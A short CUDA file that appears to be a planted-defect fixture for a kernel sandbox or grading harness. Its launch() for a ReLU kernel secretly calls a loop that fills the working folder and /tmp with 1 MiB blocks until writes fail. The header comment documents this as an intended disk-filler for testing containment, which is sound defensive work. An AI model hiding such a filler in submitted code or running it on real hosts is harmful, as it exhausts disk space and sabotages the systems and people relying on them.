// kgate-task: relu
// planted defect: HOSTILE (disk filler). launch() writes 1 MiB blocks
// without end, first into its working folder (the read-only scratch: the
// attempt is reported), then into /tmp, the sandbox's private 16 MiB tmpfs,
// where the file size limit (SIGXFSZ) or ENOSPC stops it. Nothing reaches
// the host's disk (L2).
#include <cuda_runtime.h>
#include <stdio.h>
#include <string.h>

static void fill(const char* path)
{
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    FILE* f = fopen(path, "w");
    if (!f) return;
    while (fwrite(block, 1, sizeof block, f) == sizeof block) {}
    fclose(f);
}

__global__ void relu_kernel(const float* x, float* y, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = fmaxf(x[i], 0.0f);
}

extern "C" void launch(const float* x, float* y, int n, cudaStream_t stream)
{
    static int done;
    if (!done++) {
        fill("fill.bin");
        fill("/tmp/fill.bin");
    }
    relu_kernel<<<(n + 255) / 256, 256, 0, stream>>>(x, y, n);
}
